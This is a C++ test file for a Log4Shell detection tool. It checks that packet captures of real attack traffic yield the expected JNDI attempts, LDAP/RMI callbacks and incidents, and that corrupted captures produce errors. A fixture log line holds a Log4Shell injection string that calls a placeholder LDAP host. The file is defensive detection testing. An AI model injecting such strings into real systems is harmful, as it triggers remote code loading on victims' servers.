// Every capture in ../shared/fixtures/attack-data against the expectations
// written down from tshark (src/pcap/testdata/expected_attack_data.tsv): the
// inbound attempts with their callbacks, the outbound LDAP/RMI/DNS callbacks,
// the served payloads and the incidents. Then truncated and corrupted copies
// (made under the build folder) must give an error and keep what came before.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <algorithm>
#include <fstream>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "pcap/capture.h"

namespace l4s::pcap {
namespace {

namespace fs = std::filesystem;

const fs::path kAttackData = fs::path(L4S_FIXTURES_DIR) / "attack-data";
const fs::path kExpected = fs::path(L4S_SOURCE_DIR) / "src/pcap/testdata/expected_attack_data.tsv";
const fs::path kScratch = fs::path(L4S_TEST_TMP) / "pcap_e2e";

struct Expected {
  std::string file, link;
  std::set<std::string> inbound_flows, callbacks, ldap_dns, rmi_names, dns_txt, served;
  size_t ldap_searches = 0, rmi_lookups = 0, incidents = 0;
};

std::set<std::string> split_set(const std::string& field) {
  std::set<std::string> out;
  if (field == "-") return out;
  std::stringstream ss(field);
  std::string item;
  while (std::getline(ss, item, ';')) out.insert(item);
  return out;
}

std::vector<Expected> load_expected() {
  std::vector<Expected> rows;
  std::ifstream in(kExpected);
  std::string line;
  bool header = true;
  while (std::getline(in, line)) {
    if (line.empty() || line[0] == '#') continue;
    if (header) {
      header = false;
      continue;
    }
    std::vector<std::string> f;
    std::stringstream ss(line);
    std::string cell;
    while (std::getline(ss, cell, '\t')) f.push_back(cell);
    if (f.size() != 11) {
      ADD_FAILURE() << "bad expectations row: " << line;
      continue;
    }
    Expected e;
    e.file = f[0];
    e.link = f[1];
    e.inbound_flows = split_set(f[2]);
    e.callbacks = split_set(f[3]);
    e.ldap_searches = std::stoul(f[4]);
    e.ldap_dns = split_set(f[5]);
    e.rmi_lookups = std::stoul(f[6]);
    e.rmi_names = split_set(f[7]);
    e.dns_txt = split_set(f[8]);
    e.served = split_set(f[9]);
    e.incidents = std::stoul(f[10]);
    rows.push_back(std::move(e));
  }
  return rows;
}

// The capture for a row: a file under attack-data, or "zip!member" extracted
// into the scratch folder.
std::string capture_path(const std::string& file) {
  size_t bang = file.find('!');
  if (bang == std::string::npos) return (kAttackData / file).string();
  fs::path zip = kAttackData / file.substr(0, bang);
  std::string member = file.substr(bang + 1);
  fs::create_directories(kScratch);
  fs::path out = kScratch / member;
  if (!fs::exists(out)) {
    std::string cmd = "unzip -o -q '" + zip.string() + "' '" + member + "' -d '" + kScratch.string() + "'";
    if (std::system(cmd.c_str()) != 0) return "";
  }
  return out.string();
}

std::string link_name(const std::string& tshark) {
  if (tshark == "ether") return "ethernet";
  return tshark;  // linux-sll
}

std::string FlowKey(const hunt::NetworkContext& f) { return f.src_ip + ">" + f.dst_ip + ":" + std::to_string(f.dst_port); }

std::set<std::string> served_kinds(const CaptureResult& r) {
  std::set<std::string> out;
  for (const NetEvent& e : r.events) {
    switch (e.kind) {
      case EventKind::kLdapJavaEntry:
        if (e.detail.find("javaSerializedData") != std::string::npos) out.insert("ldap_serialized_data");
        if (e.detail.find("javaCodeBase") != std::string::npos || e.detail.find("javaFactory") != std::string::npos)
          out.insert("ldap_reference");
        break;
      case EventKind::kJavaClassFetch:
        if (e.served) out.insert("java_class_download");
        break;
      case EventKind::kRmiReturn:
        out.insert(e.detail.find("class file") != std::string::npos ? "rmi_class_return" : "rmi_serialized_return");
        break;
      default:
        break;
    }
  }
  return out;
}

TEST(PcapAttackData, EveryCaptureMatchesTheTsharkExpectations) {
  if (!fs::is_directory(kAttackData)) GTEST_SKIP() << "fixtures not found at " << kAttackData << " (../shared/fixtures/attack-data)";
  std::vector<Expected> rows = load_expected();
  ASSERT_GE(rows.size(), 88u) << "every capture of attack-data has a row";
  size_t attempts = 0, ldap = 0, rmi = 0, incidents = 0;
  for (const Expected& e : rows) {
    SCOPED_TRACE(e.file);
    std::string path = capture_path(e.file);
    ASSERT_FALSE(path.empty()) << "cannot extract " << e.file;
    CaptureResult r = hunt_capture(path);
    EXPECT_TRUE(r.errors.empty()) << r.errors.front();
    EXPECT_EQ(r.link_type, link_name(e.link));

    std::set<std::string> flows, callbacks;
    for (const hunt::Detection& d : r.detections) {
      flows.insert(FlowKey(*d.network));
      for (const hunt::JndiTarget& t : d.jndi)
        if (t.remote) callbacks.insert(t.scheme + "://" + t.host + ":" + std::to_string(t.port));
    }
    EXPECT_EQ(flows, e.inbound_flows);
    EXPECT_EQ(callbacks, e.callbacks);

    size_t ldap_searches = 0, rmi_lookups = 0;
    std::set<std::string> ldap_dns, rmi_names, dns_txt;
    for (const NetEvent& ev : r.events) {
      std::string at = ev.flow.dst_ip + ":" + std::to_string(ev.flow.dst_port) + "/" + ev.name;
      if (ev.kind == EventKind::kLdapSearch) {
        ++ldap_searches;
        ldap_dns.insert(at);
        EXPECT_TRUE(ev.jndi_fingerprint) << at;
      } else if (ev.kind == EventKind::kRmiLookup) {
        ++rmi_lookups;
        rmi_names.insert(at);
      } else if (ev.kind == EventKind::kDnsTxtQuery) {
        dns_txt.insert(ev.flow.dst_ip + "/" + ev.name);
      }
    }
    EXPECT_EQ(ldap_searches, e.ldap_searches);
    EXPECT_EQ(ldap_dns, e.ldap_dns);
    EXPECT_EQ(rmi_lookups, e.rmi_lookups);
    EXPECT_EQ(rmi_names, e.rmi_names);
    EXPECT_EQ(dns_txt, e.dns_txt);
    EXPECT_EQ(served_kinds(r), e.served);

    std::set<std::string> incident_keys;  // attacker connection + callback
    for (const Incident& inc : r.incidents) {
      const hunt::NetworkContext& d = *r.detections[inc.detection].network;
      incident_keys.insert(FlowKey(d) + "/" + std::to_string(d.src_port) + "/" + inc.callback);
      EXPECT_TRUE(inc.same_host) << inc.summary;
      EXPECT_TRUE(std::count(e.inbound_flows.begin(), e.inbound_flows.end(), FlowKey(d))) << inc.summary;
    }
    EXPECT_EQ(incident_keys.size(), e.incidents);
    EXPECT_EQ(r.incidents.size(), e.incidents);
    attempts += e.inbound_flows.size();
    ldap += e.ldap_searches;
    rmi += e.rmi_lookups;
    incidents += e.incidents;
  }
  // The table itself: what the captures hold (guards against an emptied table).
  EXPECT_GE(attempts, 80u);
  EXPECT_GE(ldap, 150u);
  EXPECT_GE(rmi, 40u);
  EXPECT_GE(incidents, 80u);
}

// Copies the first `size` bytes of `from` to the scratch folder.
std::string truncated(const fs::path& from, size_t size, const std::string& name) {
  fs::create_directories(kScratch);
  std::ifstream in(from, std::ios::binary);
  std::string bytes((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  bytes.resize(std::min(size, bytes.size()));
  fs::path out = kScratch / name;
  std::ofstream(out, std::ios::binary | std::ios::trunc) << bytes;
  return out.string();
}

TEST(PcapAttackData, TruncatedCaptureGivesAnErrorAndKeepsWhatCameBefore) {
  fs::path src = kAttackData / "fox-it-log4shell-pcaps/log4shell-ldap-pcaps/ldap-basic-auth-ev0.pcap";
  if (!fs::exists(src)) GTEST_SKIP() << "fixtures not found at " << kAttackData;
  size_t full = fs::file_size(src);
  // Cut in the middle of a record: libpcap reports a truncated dump file.
  std::string path = truncated(src, full / 2 + 7, "truncated-half.pcap");
  CaptureResult r = hunt_capture(path);
  ASSERT_EQ(r.errors.size(), 1u);
  EXPECT_NE(r.errors[0].find("truncated"), std::string::npos) << r.errors[0];
  ASSERT_FALSE(r.detections.empty()) << "the attempt in frame 4 precedes the cut";
  EXPECT_EQ(r.detections[0].line, 4u);
  size_t searches = 0;
  for (const NetEvent& e : r.events) searches += e.kind == EventKind::kLdapSearch;
  EXPECT_GT(searches, 0u);
  EXPECT_LT(searches, 18u);
  EXPECT_FALSE(r.incidents.empty());

  // Cut inside the file header: nothing to read, but an error, not a crash.
  CaptureResult header_only = hunt_capture(truncated(src, 10, "truncated-header.pcap"));
  EXPECT_EQ(header_only.errors.size(), 1u);
  EXPECT_TRUE(header_only.detections.empty());
}

TEST(PcapAttackData, CorruptRecordHeaderGivesAnErrorAndTheRestIsStillRead) {
  fs::path src = kAttackData / "corelight-cve-2021-44228/testing/Traces/log4j-user_agent.pcap";
  if (!fs::exists(src)) GTEST_SKIP() << "fixtures not found at " << kAttackData;
  std::string path = truncated(src, fs::file_size(src), "corrupt.pcap");
  // Frame 5 (right after the attempt in frame 4) claims a caplen of 0x7fffffff.
  std::fstream f(path, std::ios::binary | std::ios::in | std::ios::out);
  std::string bytes((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
  size_t off = 24;
  for (int frame = 1; frame < 5; ++frame) {
    uint32_t caplen;
    std::memcpy(&caplen, bytes.data() + off + 8, 4);
    off += 16 + caplen;
  }
  f.seekp(static_cast<std::streamoff>(off + 8));
  const char huge[4] = {'\xff', '\xff', '\xff', '\x7f'};
  f.write(huge, 4);
  f.close();
  CaptureResult r = hunt_capture(path);
  ASSERT_EQ(r.errors.size(), 1u);
  EXPECT_NE(r.errors[0].find("skipped"), std::string::npos) << r.errors[0];
  EXPECT_EQ(r.stats.frames, 428u) << "every frame but the corrupt one";
  ASSERT_EQ(r.detections.size(), 1u) << "the attempt in frame 4";
  EXPECT_EQ(r.detections[0].jndi.at(0).host, "172.16.238.11");
  size_t searches = 0;
  for (const NetEvent& e : r.events) searches += e.kind == EventKind::kLdapSearch;
  EXPECT_EQ(searches, 1u) << "the LDAP callback after the damage";
  EXPECT_EQ(r.incidents.size(), 1u);
}

TEST(PcapAttackData, CorruptPcapngBlockGivesAnErrorAndTheRestIsStillRead) {
  fs::path src = kAttackData / "fox-it-log4shell-pcaps/log4shell-ldap-pcaps/log4shell-ldaps-port-443-dsb.pcapng";
  if (!fs::exists(src)) GTEST_SKIP() << "fixtures not found at " << kAttackData;
  std::string path = truncated(src, fs::file_size(src), "corrupt.pcapng");
  std::fstream f(path, std::ios::binary | std::ios::in | std::ios::out);
  std::string bytes((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
  // Walk the blocks (little-endian file) to the 6th packet block and break its length.
  size_t off = 0;
  int packets = 0;
  while (off + 8 <= bytes.size()) {
    uint32_t type, len;
    std::memcpy(&type, bytes.data() + off, 4);
    std::memcpy(&len, bytes.data() + off + 4, 4);
    if (type == 6 && ++packets == 6) break;
    off += len;
  }
  ASSERT_EQ(packets, 6);
  f.seekp(static_cast<std::streamoff>(off + 4));
  const char garbage[4] = {'\x01', '\x00', '\x00', '\x70'};
  f.write(garbage, 4);
  f.close();
  CaptureResult r = hunt_capture(path);
  ASSERT_EQ(r.errors.size(), 1u);
  EXPECT_NE(r.errors[0].find("skipped"), std::string::npos) << r.errors[0];
  EXPECT_EQ(r.stats.frames, 76u) << "all 77 but the broken one";
  ASSERT_EQ(r.detections.size(), 1u) << "the attempt in frame 4";
  EXPECT_EQ(r.incidents.size(), 1u) << "the ClientHello naming ldaps.suspect.network comes after the damage";
}

std::string shell(const std::string& command, int* exit_code) {
  std::string out;
  FILE* p = popen(command.c_str(), "r");
  if (!p) return out;
  char buf[4096];
  for (size_t n; (n = fread(buf, 1, sizeof buf, p)) > 0;) out.append(buf, n);
  int status = pclose(p);
  *exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  return out;
}

size_t Count(const std::string& text, const std::string& needle) {
  size_t n = 0;
  for (size_t pos = 0; (pos = text.find(needle, pos)) != std::string::npos; pos += needle.size()) ++n;
  return n;
}

TEST(HuntCli, CapturesAreRecognisedByMagicAndReadFromStdinWithPcap) {
  fs::path src = kAttackData / "fox-it-log4shell-pcaps/log4shell-rmi-pcaps/rmi-x-api-version-ev1.pcap";
  if (!fs::exists(src)) GTEST_SKIP() << "fixtures not found at " << kAttackData;
  fs::path dir = kScratch / "cli";
  fs::remove_all(dir);
  fs::create_directories(dir);
  fs::copy_file(src, dir / "traffic.log");  // a capture by content, whatever its name
  std::ofstream(dir / "app.log") << "2021-12-10 10:00:00 INFO user ${jndi:ldap://198.51.100.1:1389/a}\n";
  int rc = -1;
  std::string out = shell("'" + std::string(L4S_BINARY) + "' hunt --format jsonl '" + dir.string() + "'", &rc);
  EXPECT_EQ(rc, 1);
  EXPECT_EQ(Count(out, "\"type\":\"detection\""), 2u) << out;  // one in the log, one in the capture
  EXPECT_NE(out.find("\"network\":{\"protocol\":\"tcp\",\"src_ip\":\"172.17.0.1\""), std::string::npos) << out;
  EXPECT_EQ(Count(out, "\"type\":\"incident\""), 1u) << out;
  EXPECT_EQ(Count(out, "\"kind\":\"rmi_lookup\""), 1u) << out;
  EXPECT_EQ(Count(out, "\"kind\":\"tcp_connect\""), 1u) << "the incident's evidence: the first contact" << out;

  std::string in = shell("'" + std::string(L4S_BINARY) + "' hunt --pcap --format jsonl - < '" + src.string() + "'", &rc);
  EXPECT_EQ(rc, 1);
  EXPECT_EQ(Count(in, "\"type\":\"detection\""), 1u) << in;
  EXPECT_EQ(Count(in, "\"type\":\"incident\""), 1u) << in;

  // The correlation window: Corelight's server connects back 0.050 s and 0.071 s after the attempts.
  std::string attack = (kAttackData / "corelight-cve-2021-44228/testing/Traces/log4j-attack.pcap").string();
  std::string wide = shell("'" + std::string(L4S_BINARY) + "' hunt --format jsonl '" + attack + "'", &rc);
  EXPECT_EQ(Count(wide, "\"type\":\"incident\""), 2u) << wide;
  std::string narrow =
      shell("'" + std::string(L4S_BINARY) + "' hunt --pcap-window 0.06 --format jsonl '" + attack + "'", &rc);
  EXPECT_EQ(Count(narrow, "\"type\":\"incident\""), 1u) << narrow;

  // --pcap on something that is not a capture: an error, exit 2.
  std::string bad = shell("'" + std::string(L4S_BINARY) + "' hunt --pcap --format jsonl '" + (dir / "app.log").string() + "'", &rc);
  EXPECT_EQ(rc, 2) << bad;
  EXPECT_EQ(Count(bad, "\"type\":\"error\""), 1u) << bad;
}

}  // namespace
}  // namespace l4s::pcap
